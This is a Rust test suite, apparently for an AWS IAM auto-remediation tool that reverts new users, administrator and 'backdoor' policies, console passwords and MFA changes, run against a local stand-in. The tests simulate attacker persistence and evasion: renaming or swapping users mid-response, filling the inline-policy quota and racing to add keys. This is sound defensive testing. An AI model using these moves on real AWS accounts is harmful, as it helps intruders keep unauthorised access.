        (self.added.load(Ordering::Relaxed), self.refused.load(Ordering::Relaxed))
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn whoever_adds_with_the_users_own_keys_is_shut_out() {
    for _ in 0..3 {
        let scene = Scene::new().await;
        let event = scene.create_user().await;
        scene.attach(ADMINISTRATOR).await;
        let key = scene.create_key().await;
        let intruder = Intruder::with_own_keys(&scene, &key).await;
        sleep(Duration::from_millis(150)).await;
        let ran = scene.run(&event).await;
        sleep(Duration::from_millis(300)).await;
        let (added, refused) = intruder.stop().await;
        assert!(added > 0 && refused > 3, "{added} added, {refused} refused in the end");
        assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{ran:#?}");
        ran.mail_says(&["REVERTED", &key]);
    }
}

/// Not first when the keys are deleted: that takes long here, and they are shut off all the while.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_containment_shuts_out_before_anything_is_tidied_up() {
    for not_carried_out in ["PutUserPolicy", "UpdateAccessKey"] {
        let scene = Scene::new().await;
        let event = scene.create_user().await;
        scene.attach(ADMINISTRATOR).await;
        let key = scene.create_key().await;
        // As many as a user can have.
        scene.create_key().await;
        let intruder = Intruder::with_own_keys(&scene, &key).await;
        sleep(Duration::from_millis(150)).await;
        // Either of the two is enough.
        scene.deny(not_carried_out, 2);
        let slow = Fault { code: None, times: 2, delay_seconds: 1.5, ..Fault::new("", "DeleteAccessKey", "") };
        scene.stage.inject(slow);
        let slow = Fault { code: None, times: 1, delay_seconds: 1.5, ..Fault::new("", "DetachUserPolicy", "") };
        scene.stage.inject(slow);
        let contained = async {
            loop {
                let calls = scene.stage.all_calls();
                if calls.iter().any(|call| call.action == "DeleteAccessKey") {
                    return Instant::now();
                }
                sleep(Duration::from_millis(10)).await;
            }
        };
        let process = scene.process(&[]);
        let (ran, contained) = tokio::join!(scene.stage.run(&process, &event), contained);
        let last = intruder.last.lock().unwrap().unwrap();
        let (added, refused) = intruder.stop().await;
        assert!(added > 0 && refused > 20, "{added} added, {refused} refused in the end");
        assert!(last <= contained, "{not_carried_out}: added {:?} after the containment", last - contained);
        assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{ran:#?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn whoever_adds_with_other_keys_gets_nothing_usable() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let intruder = Intruder::with_other_keys(&scene).await;
    sleep(Duration::from_millis(150)).await;
    let process = scene.process(&[]);
    let ran = scene.stage.run(&process, &event).await;
    let outcome = ran.mail().subject.clone();
    if scene.user_id().await.is_some() {
        assert!(ran.handled.error.is_some() && scene.is_denied().await, "{ran:#?}");
        // Unless it was seen to be unusable, the mail says that it may be.
        let is_contained = outcome.starts_with("CONTAINED: new IAM user shut off");
        assert!(is_contained || outcome.starts_with("FAILED - ACT NOW: new IAM user may still be usable"), "{outcome}");
        ran.mail_says(&["is on the user: it was read again", "What hangs on the user:"]);
    } else {
        assert!(outcome.starts_with("REVERTED"), "{outcome}");
    }
    let (added, _) = intruder.stop().await;
    assert!(added > 0);
    // Once it is over, the next try deletes what is left.
    let again = scene.stage.run(&process, &event).await;
    assert_eq!((again.handled.error.clone(), scene.user_id().await), (None, None), "{again:#?}");
}

#[tokio::test]
async fn a_user_that_was_renamed_is_found_by_its_id() {
    for settings in [&[][..], &[("IAM_USER_MODE", "alert")]] {
        let mut scene = Scene::new().await;
        let event = scene.create_user().await;
        scene.create_password().await;
        let new_name = format!("mallory-{}", unique());
        scene.rename(&new_name).await;
        let ran = scene.stage.run(&scene.process(settings), &event).await;
        assert_eq!(ran.handled.error, None, "{ran:#?}");
        ran.mail_says(&[&format!("it is called {new_name} now")]);
        scene.name = new_name;
        assert_eq!(scene.user_id().await.is_some(), !settings.is_empty(), "{ran:#?}");
        assert!(ran.took < Duration::from_secs(5), "{:?}", ran.took);
    }
}

#[tokio::test]
async fn a_user_that_is_renamed_meanwhile_goes_all_the_same() {
    for action in ["PutUserPolicy", "DeactivateMFADevice", "DeleteUser"] {
        let mut scene = Scene::new().await;
        let event = scene.create_user().await;
        scene.create_password().await;
        scene.create_phone().await;
        let new_name = format!("mallory-{}", unique());
        let ran = scene.run_with(&event, action, async || scene.rename(&new_name).await).await;
        assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{ran:#?}");
        ran.mail_says(&["REVERTED", &format!("it is called {new_name} now")]);
        scene.name = new_name;
        assert_eq!(scene.user_id().await, None, "{action}: {ran:#?}");
    }
}

/// Somebody is faster, and makes another user of the name at once: that one is not ours.
#[tokio::test]
async fn a_user_that_is_replaced_meanwhile_is_left_alone() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let replace = async || {
        scene.delete_user().await;
        scene.create_user().await;
        scene.create_password().await;
        scene.attach(ADMINISTRATOR).await;
    };
    let ran = scene.run_with(&event, "PutUserPolicy", replace).await;
    assert_eq!(ran.handled.error, None, "{ran:#?}");
    ran.mail_says(&[
        "ALERT: new IAM user, already gone, name taken again",
        "the calls below that are no reads were made",
    ]);
    assert!(scene.has_password().await && scene.attached().await.len() == 1);
    assert!(scene.inline().await.is_empty(), "the denial is on somebody else");
}

#[tokio::test]
async fn a_user_that_is_deleted_meanwhile_is_gone() {
    for action in ["PutUserPolicy", "DeleteUser"] {
        let scene = Scene::new().await;
        let event = scene.create_user().await;
        let ran = scene.run_with(&event, action, async || scene.delete_user().await).await;
        assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{ran:#?}");
        ran.mail_says(&["ALERT: new IAM user"]);
    }
}

/// AWS deletes by name: the one who has it when the call arrives. It can't be kept from that, but it is not taken for the event's user.
#[tokio::test]
async fn a_user_that_is_swapped_before_it_is_deleted_goes_all_the_same() {
    let mut scene = Scene::new().await;
    let event = scene.create_user().await;
    let new_name = format!("mallory-{}", unique());
    let swap = async || {
        scene.rename(&new_name).await;
        scene.create_user().await;
    };
    let ran = scene.run_with(&event, "DeleteUser", swap).await;
    assert_eq!(ran.handled.error, None, "{ran:#?}");
    ran.mail_says(&[
        "REVERTED: new IAM user deleted, and another user too",
        &format!("deleted another user, who had got the name {}", scene.name),
        &format!("it is called {new_name} now"),
    ]);
    scene.name = new_name;
    assert_eq!(scene.user_id().await, None, "the event's user lives");
}

/// The denial goes back on by name: if another user has it by then, it is taken off that one again.
#[tokio::test]
async fn a_denial_does_not_stay_on_another_user() {
    for is_refused in [false, true] {
        let mut scene = Scene::new().await;
        let event = scene.create_user().await;
        let new_name = format!("mallory-{}", unique());
        scene.fault("DeleteUser", "DeleteConflict", 409, 1);
        let process = scene.process(&[]);
        let swap = async {
            wait_for(&scene, "PutUserPolicy", 1).await;
            scene.stage.inject(Fault { code: None, delay_seconds: 1.0, ..Fault::new("", "PutUserPolicy", "") });
            wait_for(&scene, "PutUserPolicy", 2).await;
            if is_refused {
                scene.deny("DeleteUserPolicy", 1);
            }
            scene.rename(&new_name).await;
            scene.create_user().await;
            scene.create_password().await;
        };
        let (ran, ()) = tokio::join!(scene.stage.run(&process, &event), swap);
        assert_eq!((scene.is_denied().await, scene.has_password().await), (is_refused, true), "{ran:#?}");
        assert_eq!(ran.handled.error.is_some(), is_refused, "{ran:#?}");
        if is_refused {
            let command = format!("aws iam delete-user-policy --user-name {} --policy-name {CONTAINMENT}", scene.name);
            ran.mail_says(&["FAILED - ACT NOW: new IAM user: another user is shut off", &command]);
        } else {
            ran.mail_says(&["REVERTED"]);
        }
        scene.name = new_name;
        assert_eq!(scene.user_id().await, None, "{ran:#?}");
    }
}

/// Whatever list AWS shows: a user with another id is never ours.
#[tokio::test]
async fn a_later_user_is_left_alone_when_the_list_of_users_is_old() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let old = scene.user_id().await.unwrap();
    let proxy = with_old_list_of_users(scene.stage.endpoint(), &scene.name, &old).await;
    scene.delete_user().await;
    sleep(Duration::from_millis(1_100)).await;
    scene.create_user().await;
    let all = scene.add_everything().await;
    let process = scene.stage.process(|config| IamUser::new(config.to_builder().endpoint_url(proxy).build()), &[]);
    let ran = scene.stage.run(&process, &event).await;
    assert!(ran.told().iter().all(|call| call.starts_with("Get") || call.starts_with("List") || call == "Publish"));
    assert!(ran.handled.error.is_some(), "{ran:#?}");
    ran.mail_says(&["FAILED - ACT NOW: new IAM user could not be read", "answers lag"]);
    assert!(scene.has_password().await && scene.has_active_key().await && scene.attached().await.len() == 2);
    assert_eq!(
        scene.iam.list_access_keys().user_name(&scene.name).send().await.unwrap().access_key_metadata.len(),
        all.keys.len()
    );
}

/// Answers `ListUsers` with an old answer, and hands all other calls on.
async fn with_old_list_of_users(endpoint: &str, name: &str, id: &str) -> String {
    let arn = format!("arn:aws:iam::{ACCOUNT}:user/{name}");
    let old = format!(
        "<ListUsersResponse xmlns=\"https://iam.amazonaws.com/doc/2010-05-08/\"><ListUsersResult><IsTruncated>false</IsTruncated>\
         <Users><member><Path>/</Path><UserName>{name}</UserName><UserId>{id}</UserId><Arn>{arn}</Arn>\
         <CreateDate>2026-01-01T00:00:00Z</CreateDate></member></Users></ListUsersResult>\
         <ResponseMetadata><RequestId>x</RequestId></ResponseMetadata></ListUsersResponse>"
    );
    let head = format!("HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: {}\r\n", old.len());
    let answer = format!("{head}Connection: close\r\n\r\n{old}");
    let upstream = endpoint.trim_start_matches("http://").trim_end_matches('/').to_owned();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        loop {
            let (mut client, _) = listener.accept().await.unwrap();
            let (upstream, answer) = (upstream.clone(), answer.clone());
            tokio::spawn(async move {
                let request = read_request(&mut client).await;
                if request.contains("Action=ListUsers&") {
                    client.write_all(answer.as_bytes()).await.unwrap();
                    return;
                }
                let mut server = TcpStream::connect(&upstream).await.unwrap();
                server.write_all(request.replacen("\r\n", "\r\nConnection: close\r\n", 1).as_bytes()).await.unwrap();
                let mut answer = Vec::new();
                server.read_to_end(&mut answer).await.unwrap();
                client.write_all(&answer).await.unwrap();
            });
        }
    });
    address
}

/// A whole request with a body of a known length.
async fn read_request(client: &mut TcpStream) -> String {
    let (mut request, mut buffer) = (String::new(), [0_u8; 65_536]);
    loop {
        let read = client.read(&mut buffer).await.unwrap();
        assert!(read > 0, "the connection ended within {request}");
        request.push_str(std::str::from_utf8(&buffer[..read]).unwrap());
        let Some((head, body)) = request.split_once("\r\n\r\n") else { continue };
        let lengths =
            head.lines().filter_map(|line| line.to_lowercase().strip_prefix("content-length: ")?.parse::<usize>().ok());
        if body.len() >= lengths.sum() {
            return request;
        }
    }
}

async fn wait_for(scene: &Scene, action: &str, count: usize) {
    while scene.stage.all_calls().iter().filter(|call| call.action == action).count() < count {
        sleep(Duration::from_millis(10)).await;
    }
}

/// Reads that lag behind a change that AWS has just made do not end it.
#[tokio::test]
async fn a_user_that_reads_do_not_show_for_a_while_goes() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let process = scene.process(&[]);
    let lag = async {
        wait_for(&scene, "PutUserPolicy", 1).await;
        scene.fault("GetUser", "NoSuchEntity", 404, 3);
        scene.fault("ListUsers", "NoSuchEntity", 404, 3);
    };
    scene.stage.inject(Fault { code: None, delay_seconds: 0.5, ..Fault::new("", "PutUserPolicy", "") });
    let (ran, ()) = tokio::join!(scene.stage.run(&process, &event), lag);
    assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{ran:#?}");
    ran.mail_says(&["REVERTED"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_user_that_is_renamed_all_the_time_is_told_and_does_not_heat_up() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let is_over = AtomicBool::new(false);
    let process = scene.process(&[]);
    let rename = async {
        let mut from = scene.name.clone();
        while !is_over.load(Ordering::Relaxed) {
            let to = format!("mallory-{}", unique());
            scene.iam.update_user().user_name(&from).new_user_name(&to).send().await.unwrap();
            from = to;
        }
    };
    let run = async {
        let ran = scene.stage.run_within(&process, &event, Duration::from_secs(12 + 8)).await;
        is_over.store(true, Ordering::Relaxed);
        ran
    };
    let (ran, ()) = tokio::join!(run, rename);
    assert!(ran.handled.error.is_some(), "{ran:#?}");
    ran.mail_says(&["FAILED - ACT NOW", "It has been renamed since"]);
    assert!(ran.calls.len() < 200, "{} calls", ran.calls.len());
}

#[tokio::test]
async fn a_user_that_can_not_be_read_after_a_rename_is_named_as_it_is_called_now() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let new_name = format!("mallory-{}", unique());
    scene.rename(&new_name).await;
    scene.create_user().await;
    let process = scene.process(&[]);
    let refuse = async {
        wait_for(&scene, "ListUsers", 1).await;
        scene.deny("GetUser", 1);
    };
    scene.stage.inject(Fault { code: None, delay_seconds: 0.5, ..Fault::new("", "ListUsers", "") });
    let (ran, ()) = tokio::join!(scene.stage.run(&process, &event), refuse);
    ran.mail_says(&[&format!("Look at IAM user {new_name} now"), "leave that one alone"]);
    assert!(scene.user_id().await.is_some());
}

/// Inline policies of a user may hold 2,048 characters together: a user that is full is shut off in their place.
#[tokio::test]
async fn a_user_without_room_for_the_denial_is_shut_off_all_the_same() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    let key = scene.create_key().await;
    const SHORT: &str = r#"{"Version":"2012-10-17","Statement":{"Effect":"Allow","Action":"*","Resource":"*"}}"#;
    for number in 0..2_048 / SHORT.len() {
        scene.put(&format!("filler-{number}"), SHORT).await;
    }
    scene.stage.inject(Fault { code: None, delay_seconds: 1.5, ..Fault::new("", "DeleteAccessKey", "") });
    let process = scene.process(&[]);
    let is_shut_out = async {
        wait_for(&scene, "DeleteAccessKey", 1).await;
        let document = scene.iam.get_user_policy().user_name(&scene.name).policy_name("filler-0").send().await;
        document.is_err() || document.is_ok_and(|found| found.policy_document.contains("Deny"))
    };
    let (ran, is_shut_out) = tokio::join!(scene.stage.run(&process, &event), is_shut_out);
    assert!(is_shut_out, "{ran:#?}");
    assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{key} {ran:#?}");
    ran.mail_says(&["REVERTED", "LimitExceeded"]);
}

/// Something new each time before the user is deleted, to the last round.
#[tokio::test]
async fn after_five_rounds_it_is_shut_off_and_left() {
    let scene = Scene::new().await;
    let event = scene.create_user().await;
    scene.create_key().await;
    scene.fault("DeleteUser", "DeleteConflict", 409, 5);
    let process = scene.process(&[]);
    let ran = scene.stage.run(&process, &event).await;
    ran.mail_says(&[
        "CONTAINED",
        "`DeleteUser` failed: DeleteConflict",
        "Tried 5 times",
        "CONTAINED: new IAM user shut off",
    ]);
    assert!(ran.handled.error.is_some() && scene.is_denied().await && !scene.has_active_key().await);
    let told = ran.told();
    assert_eq!(told.iter().filter(|call| call.starts_with("DeleteUser ")).count(), 5, "{told:#?}");
    // The denial goes back on right after each refusal.
    for (index, call) in told.iter().enumerate() {
        if call.starts_with("DeleteUser ") {
            assert_eq!(told[index + 1], scene.put_denial());
        }
    }
    scene.stage.run(&process, &event).await.mail_says(&["REVERTED"]);
    assert_eq!(scene.user_id().await, None);
}

// ---------------------------------------------------------------------------------------------------------
// Events of one attack

#[tokio::test]
async fn events_of_one_attack_end_alike_in_every_order() {
    let mut orders: Vec<Vec<usize>> = vec![Vec::new()];
    for next in 0..4 {
        let longer = orders.iter().flat_map(|order| {
            (0..=order.len()).map(move |place| {
                let mut order = order.clone();
                order.insert(place, next);
                order
            })
        });
        orders = longer.collect();
    }
    assert_eq!(orders.len(), 24);
    let stage = Stage::new().await;
    let mut scene = Scene::of(stage);
    for order in orders {
        scene.name = format!("eve-{}", unique());
        let events = [
            scene.create_user().await,
            scene.attach(ADMINISTRATOR).await,
            scene.put("backdoor", ALLOW_ALL).await,
            scene.create_password().await,
        ];
        let process = scene.late_process();
        let twice: Vec<usize> = order.iter().flat_map(|index| [*index, *index]).chain(order.iter().copied()).collect();
        for index in twice {
            let ran = scene.stage.run(&process, &events[index]).await;
            assert_eq!(ran.handled.error, None, "{order:?} {index}: {ran:#?}");
            assert!(
                ran.mails.len() <= 1 && ran.mails.iter().all(|mail| !mail.subject.starts_with("FAILED")),
                "{ran:#?}"
            );
        }
        assert_eq!(scene.user_id().await, None, "{order:?}");
        // And once more in another process.
        for index in order {
            let ran = scene.run_late(&events[index]).await;
            assert_eq!(ran.handled.error, None, "{ran:#?}");
            let said = if index == 0 { "already gone" } else { "and no user of that name" };
            ran.mail_says(&["ALERT", said]);
        }
    }
}

/// Lambda runs as many processes as there are events.
#[tokio::test]
async fn events_of_one_attack_at_the_same_time_end_alike() {
    for _ in 0..5 {
        let scene = Scene::new().await;
        let made = scene.create_user().await;
        let all = [
            scene.attach(ADMINISTRATOR).await,
            scene.put("backdoor", ALLOW_ALL).await,
            scene.create_password().await,
            made.clone(),
            made,
        ];
        let processes: Vec<_> = all.iter().map(|_| scene.late_process()).collect();
        let runs = all.iter().zip(&processes).map(|(event, process)| Box::pin(process.handle(event)));
        for handled in futures_util::future::join_all(runs).await {
            assert_eq!(handled.error, None, "{handled:#?}");
        }
        assert_eq!(scene.user_id().await, None);
    }
}

#[tokio::test]
async fn a_young_event_of_a_user_that_is_gone_ends_alike() {
    let scene = Scene::new().await;
    let made = scene.create_user().await;
    let attached = scene.attach(ADMINISTRATOR).await;
    let process = scene.process(&[]);
    scene.stage.run(&process, &made).await.mail_says(&["REVERTED"]);
    let ran = scene.stage.run(&process, &attached).await;
    assert_eq!((ran.handled.error.clone(), scene.user_id().await), (None, None), "{ran:#?}");
    ran.mail_says(&["ALERT: HIGH: policy on IAM user, and no user of that name", "snapback deleted this user"]);
}

// ---------------------------------------------------------------------------------------------------------
// A console password

#[tokio::test]
async fn a_new_password_goes_and_the_user_stays() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let key = scene.create_key().await;
    let event = scene.create_password().await;
    let (get, user) = (scene.call("GetLoginProfile", &[]), scene.get_user());
    let process = scene.process(&[]);
    let ran = scene.stage.run(&process, &event).await;
    let gone = [refused(get.clone(), 404), user.clone()];
    let delete = scene.call("DeleteLoginProfile", &[]);
    let calls = [&[get.clone(), user, delete][..], &gone, &[publish()]].concat();
    ran.is(Violation, &[Reverted], &calls);
    ran.mail_says(&["ConsoleLogin", "12 hours", "aws:TokenIssueTime"]);
    assert!(!scene.has_password().await && scene.has_active_key().await, "{key}");
    let again = scene.stage.run(&process, &event).await;
    again.is(Violation, &[], &gone);
    scene.run_late(&event).await.is(Violation, &[Alert], &[&gone[..], &[publish()]].concat());
}

#[tokio::test]
async fn a_password_that_aws_is_still_making_goes_later() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let event = scene.create_password().await;
    scene.fault("DeleteLoginProfile", "EntityTemporarilyUnmodifiable", 409, 2);
    let ran = scene.run(&event).await;
    assert_eq!(ran.handled.error, None, "{ran:#?}");
    ran.mail_says(&["REVERTED"]);
    assert!(!scene.has_password().await);
}

#[tokio::test]
async fn a_password_of_another_time_is_left_alone() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let event = scene.create_password().await;
    let get = scene.call("GetLoginProfile", &[]);
    let at = |seconds: i64| json!(written(Utc::now().timestamp() + seconds));
    const DATE: &str = "/detail/responseElements/loginProfile/createDate";
    // The event's was made before: that password is gone, and this one has its own event.
    let ran = scene.run(&changed(event.clone(), DATE, at(-30))).await;
    ran.is(Violation, &[Alert], &[get.clone(), scene.get_user(), publish()]);
    ran.mail_says(&["already gone, made again"]);
    // The event's was made later: what the account shows may be the one from before.
    let ran = scene.run_late(&changed(event, DATE, at(30))).await;
    ran.is(Violation, &[Alert], &[get, scene.get_user(), publish()]);
    assert!(scene.has_password().await);
}

#[tokio::test]
async fn a_password_that_can_not_be_taken_away_is_a_failure() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let event = scene.create_password().await;
    scene.deny("DeleteLoginProfile", 1);
    let process = scene.process(&[]);
    let get = scene.call("GetLoginProfile", &[]);
    let denied = refused(scene.call("DeleteLoginProfile", &[]), 403);
    let ran = scene.stage.run(&process, &event).await;
    ran.is_error(Violation, &[Failed], &[get.clone(), scene.get_user(), denied, get, scene.get_user(), publish()]);
    ran.mail_says(&[&format!("aws iam delete-login-profile --user-name {}", scene.name)]);
    scene.stage.run(&process, &event).await.mail_says(&["REVERTED"]);
    // The answer is lost, and it is gone all the same.
    let event = scene.create_password().await;
    scene.stage.inject(Fault { after: true, ..Fault::new("", "DeleteLoginProfile", "InternalError") });
    let ran = scene.run(&event).await;
    assert_eq!(ran.handled.error, None);
    ran.mail_says(&["ALERT", "ended in an error"]);
    // It can't be read.
    let event = scene.create_password().await;
    scene.deny("GetLoginProfile", 1);
    let ran = scene.run(&event).await;
    assert!(ran.handled.error.is_some() && scene.has_password().await);
    ran.mail_says(&["FAILED - ACT NOW: new console password could not be read"]);
}

#[tokio::test]
async fn a_password_changed_by_another_is_told() {
    let scene = Scene::new().await;
    let by_other = event("iam", "UpdateLoginProfile", json!({"userName": scene.name}), Value::Null);
    scene.run(&by_other).await.is(Violation, &[Alert], &[publish()]);
    let by_itself = event("iam", "UpdateLoginProfile", json!({"userName": "developer"}), Value::Null);
    scene.run(&by_itself).await.is(Ignored, &[], &[]);
}

// ---------------------------------------------------------------------------------------------------------
// Policies

#[tokio::test]
async fn an_attached_policy_is_detached_and_its_siblings_stay() {
    let scene = Scene::new().await;
    scene.create_user().await;
    scene.attach(READ_ONLY).await;
    scene.put("inline", ALLOW_ALL).await;
    let event = scene.attach(ADMINISTRATOR).await;
    let list = scene.call("ListAttachedUserPolicies", &[]);
    let policy = [("PolicyArn", ADMINISTRATOR)];
    let process = scene.process(&[]);
    let ran = scene.stage.run(&process, &event).await;
    let looks = vec![list.clone(), scene.get_user(), expected("GetPolicy", &policy)];
    let version = expected("GetPolicyVersion", &[("PolicyArn", ADMINISTRATOR), ("VersionId", "v1")]);
    let detach = scene.call("DetachUserPolicy", &policy);
    let rounds = [looks, vec![version], vec![detach], vec![list, scene.get_user()], vec![publish()]];
    ran.is_in_rounds(Violation, &[Reverted], &rounds);
    ran.mail_says(&["is still in the account", "aws iam attach-user-policy"]);
    assert_eq!((scene.attached().await, scene.inline().await), (vec![READ_ONLY.to_owned()], vec!["inline".to_owned()]));
    let again = scene.stage.run(&process, &event).await;
    assert_eq!((again.mails.len(), again.handled.error.clone()), (0, None), "{again:#?}");
    scene.run_late(&event).await.mail_says(&["ALERT", "already gone", "Nothing was changed."]);
}

#[tokio::test]
async fn an_attached_policy_is_found_on_a_later_page() {
    let options = StandInOptions { page_size: NonZeroU32::new(1) };
    let stand_in = StandIn::start_with(options, &mut |_| {}).unwrap();
    let scene = Scene::of(Stage::on(&stand_in).await);
    scene.create_user().await;
    scene.attach(READ_ONLY).await;
    let event = scene.attach(ADMINISTRATOR).await;
    scene.run(&event).await.mail_says(&["REVERTED"]);
    assert_eq!(scene.attached().await, [READ_ONLY]);
}

#[tokio::test]
async fn an_attached_policy_that_only_denies_stays() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let create = scene.iam.create_policy().policy_name(format!("deny-{}", unique())).policy_document(DENY_S3);
    let arn = create.send().await.unwrap().policy.unwrap().arn.unwrap();
    let event = scene.attach(&arn).await;
    let ran = scene.run(&event).await;
    assert_eq!((ran.handled.verdict, ran.mails.len(), ran.handled.error.clone()), (Ignored, 0, None), "{ran:#?}");
    assert_eq!(scene.attached().await, [arn]);
}

/// Whoever may make another version the default makes it deny while snapback looks.
#[tokio::test]
async fn an_attached_policy_is_judged_by_all_its_versions() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let create = scene.iam.create_policy().policy_name(format!("p-{}", unique())).policy_document(ALLOW_ALL);
    let arn = create.send().await.unwrap().policy.unwrap().arn.unwrap();
    let event = scene.attach(&arn).await;
    let version = scene.iam.create_policy_version().policy_arn(&arn).policy_document(DENY_S3);
    version.set_as_default(true).send().await.unwrap();
    let ran = scene.run(&event).await;
    ran.mail_says(&["REVERTED", "All versions of such a policy count"]);
    let policy = [("PolicyArn", arn.as_str())];
    let version = |id: &str| expected("GetPolicyVersion", &[("PolicyArn", &arn), ("VersionId", id)]);
    let list = scene.call("ListAttachedUserPolicies", &[]);
    let rounds = [
        vec![list.clone(), scene.get_user(), expected("ListPolicyVersions", &policy)],
        vec![version("v1"), version("v2")],
        vec![scene.call("DetachUserPolicy", &policy)],
        vec![list, scene.get_user()],
        vec![publish()],
    ];
    ran.is_in_rounds(Violation, &[Reverted], &rounds);
    assert!(scene.attached().await.is_empty());
}

#[tokio::test]
async fn an_attached_policy_is_known_in_other_letters() {
    let scene = Scene::new().await;
    scene.create_user().await;
    scene.attach(ADMINISTRATOR).await;
    let arn = "arn:aws:iam::aws:policy/administratoraccess";
    let request = json!({"userName": scene.name, "policyArn": arn});
    scene.run(&event("iam", "AttachUserPolicy", request, Value::Null)).await.mail_says(&["REVERTED"]);
    assert!(scene.attached().await.is_empty());
}

/// What another user of the name has was given by somebody else.
#[tokio::test]
async fn what_a_later_user_of_the_name_has_is_left_alone() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let event = scene.attach(ADMINISTRATOR).await;
    scene.iam.detach_user_policy().user_name(&scene.name).policy_arn(ADMINISTRATOR).send().await.unwrap();
    scene.delete_user().await;
    scene.create_user().await;
    scene.attach(ADMINISTRATOR).await;
    let before = written_at(Utc::now() - TimeDelta::try_seconds(20).unwrap());
    let ran = scene.run(&changed(event, "/detail/eventTime", before)).await;
    assert_eq!(ran.handled.error, None, "{ran:#?}");
    ran.mail_says(&["ALERT: policy on IAM user, another user has the name", "Nothing was changed."]);
    assert_eq!(scene.attached().await, [ADMINISTRATOR]);
}

/// It may be there still, under another name: that is no "deleted", and no "already gone".
#[tokio::test]
async fn what_a_renamed_user_has_is_not_called_gone() {
    for is_meanwhile in [false, true] {
        let scene = Scene::new().await;
        scene.create_user().await;
        let event = scene.create_password().await;
        let new_name = format!("mallory-{}", unique());
        let rename = async || scene.rename(&new_name).await;
        let ran = if is_meanwhile {
            scene.run_with(&event, "DeleteLoginProfile", rename).await
        } else {
            rename().await;
            scene.run_late(&event).await
        };
        assert_eq!(ran.handled.error, None, "{ran:#?}");
        ran.mail_says(&["ALERT: HIGH: new console password, and no user of that name", "still has it", "UpdateUser"]);
    }
}

#[tokio::test]
async fn mfa_taken_from_a_user_that_was_renamed_is_told() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let phone = scene.create_phone().await;
    scene.iam.deactivate_mfa_device().user_name(&scene.name).serial_number(&phone).send().await.unwrap();
    let request = json!({"userName": scene.name, "serialNumber": phone});
    let deactivated = event("iam", "DeactivateMFADevice", request, Value::Null);
    scene.rename(&format!("mallory-{}", unique())).await;
    scene.run(&deactivated).await.mail_says(&["ALERT: LOW: MFA device deactivated", "deleted, or renamed"]);
}

/// CloudTrail leaves out what is too long, which whoever puts the policy can make it.
#[tokio::test]
async fn an_inline_policy_that_the_event_does_not_hold_is_read() {
    const DOCUMENT: &str = "/detail/requestParameters/policyDocument";
    for (document, subject) in [(ALLOW_ALL, Some("REVERTED")), (DENY_S3, None)] {
        let scene = Scene::new().await;
        scene.create_user().await;
        let event = changed(scene.put("padded", document).await, DOCUMENT, Value::Null);
        let ran = scene.run_late(&event).await;
        assert_eq!((ran.handled.error.clone(), ran.mails.len()), (None, subject.into_iter().count()), "{ran:#?}");
        if let Some(subject) = subject {
            ran.mail_says(&[subject, "leaves out what is too long"]);
        }
        assert_eq!(scene.inline().await.is_empty(), subject.is_some());
    }
}

#[tokio::test]
async fn awss_quarantine_is_told_and_stays() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let event = scene.attach(QUARANTINE).await;
    // No actor is trusted with that.
    for settings in [&trusting_developer()[..], &[]] {
        let ran = scene.stage.run(&scene.process(settings), &event).await;
        ran.is(Violation, &[Alert], &[publish()]);
        ran.mail_says(&["ALERT: CRITICAL: AWS says a key leaked", "aws iam list-access-keys"]);
    }
    scene.stage.run(&scene.process(&[("IAM_USER_MODE", "off")]), &event).await.is(Ignored, &[], &[]);
    assert_eq!(scene.attached().await, [QUARANTINE]);
}

#[tokio::test]
async fn a_policy_that_can_not_be_judged_or_detached_is_a_failure() {
    let scene = Scene::new().await;
    scene.create_user().await;
    let event = scene.attach(ADMINISTRATOR).await;
    let process = scene.process(&[]);
    for (action, said) in [
        ("GetPolicy", "could not be read"),
        ("GetPolicyVersion", "could not be read"),
        ("ListAttachedUserPolicies", "could not be read"),
        ("DetachUserPolicy", "may still be there"),
    ] {
        scene.deny(action, 1);
        let ran = scene.stage.run(&process, &event).await;
        assert!(ran.handled.error.is_some(), "{action}");
        ran.mail_says(&["FAILED - ACT NOW", said, action]);
        assert_eq!(scene.attached().await, [ADMINISTRATOR]);
    }
    scene.stage.run(&process, &event).await.mail_says(&["REVERTED"]);
}

#[tokio::test]
async fn an_inline_policy_is_deleted_and_its_siblings_stay() {
    let scene = Scene::new().await;
    scene.create_user().await;
    scene.attach(READ_ONLY).await;
    scene.put("sibling", ALLOW_ALL).await;
    let event = scene.put("backdoor", ALLOW_ALL).await;
    let policy = [("PolicyName", "backdoor")];
    let (get, user) = (scene.call("GetUserPolicy", &policy), scene.get_user());
    let process = scene.process(&[]);
    let ran = scene.stage.run(&process, &event).await;
    let gone = [refused(get.clone(), 404), user.clone()];
    let delete = scene.call("DeleteUserPolicy", &policy);
    let calls = [&[get, user, delete][..], &gone, &[publish()]].concat();
    ran.is(Violation, &[Reverted], &calls);
    ran.mail_says(&["it is lost"]);
    assert_eq!(
        (scene.attached().await, scene.inline().await),
        (vec![READ_ONLY.to_owned()], vec!["sibling".to_owned()])
    );
